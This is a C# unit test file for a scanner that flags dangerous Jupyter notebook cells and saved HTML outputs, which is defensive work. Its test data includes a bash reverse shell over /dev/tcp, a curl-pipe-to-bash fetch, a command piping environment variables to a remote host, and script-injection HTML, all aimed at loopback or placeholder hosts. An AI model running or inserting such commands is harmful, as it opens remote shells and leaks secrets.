using System.Text;
using System.Text.Json;
using Assay.Analysis.Testing;
using Assay.Contracts.Values;
using Assay.Inspect.Analysers.Notebook;

namespace Assay.Tests.Unit.Inspect.Analysers.Notebook;

public sealed class NotebookAnalyserTests
{
    private static Task<TestBedResult> Cell(string source, object? outputs = null) => Run(JsonSerializer.Serialize(new
    {
        cells = new[] { new { cell_type = "code", source = source.Split('\n').Select(l => l + "\n").ToArray(), outputs = outputs ?? Array.Empty<object>() } },
        nbformat = 4,
    }));

    private static Task<TestBedResult> Run(string json) =>
        TestBed.For(new NotebookAnalyser()).WithBytes(Encoding.UTF8.GetBytes(json)).As(FileFormat.Notebook).RunAsync(TestContext.Current.CancellationToken);

    [Theory]
    [InlineData("import os\nos.system('echo assay-canary')", Severity.Critical)]
    [InlineData("!curl -s http://127.0.0.1:9/x | bash", Severity.High)]
    [InlineData("%%bash\nbash -i >& /dev/tcp/127.0.0.1/9 0>&1", Severity.Critical)]
    [InlineData("%time __import__('os').system('echo assay-canary')", Severity.Critical)]
    [InlineData("x = !env | curl -d @- http://127.0.0.1:9/", Severity.Critical)]
    [InlineData("get_ipython().system('echo assay-canary')", Severity.Critical)]
    public async Task Cells_that_would_harm_are_reported(string source, Severity severity) => ((await Cell(source)).Worst >= severity).ShouldBeTrue();

    [Theory]
    [InlineData("!pip install -q transformers\n!nvidia-smi\n%matplotlib inline\nimport torch\n%cd /content\nmodel?")]
    [InlineData("!wget https://example.com/x.zip\n!unzip -q x.zip\n!rm -rf sample_data\nfrom google.colab import drive")]
    [InlineData("%%writefile train.sh\ncurl http://x | sh")]
    public async Task Honest_cells_are_low_at_most(string source) => ((await Cell(source)).Worst > Severity.Low).ShouldBeFalse();

    [Theory]
    [InlineData("<script>Jupyter.notebook.kernel.execute('x')</script>", Severity.High)]
    [InlineData("<img src=x onerror=\"fetch('http://127.0.0.1:9/')\">", Severity.High)]
    [InlineData("<script src=\"https://collect.invalid/x.js\"></script>", Severity.Medium)]
    [InlineData("<div><script src=\"https://cdn.plot.ly/plotly.js\"></script><script>Plotly.newPlot()</script></div>", Severity.Low)]
    public async Task Saved_outputs_are_read(string html, Severity severity) =>
        (await Cell("1", new[] { new { output_type = "display_data", data = new Dictionary<string, string> { ["text/html"] = html } } })).Worst.ShouldBe(severity);

    [Fact]
    public async Task A_cut_notebook_is_read_as_far_as_it_goes()
    {
        var result = await Run("{\"cells\": [{\"cell_type\": \"code\", \"source\": \"import os\\nos.system('id')\"}, {\"cell_ty");

        result.Worst.ShouldBe(Severity.Critical);
        result.Rules.ShouldContain("ASY-NBK-004");
    }
}
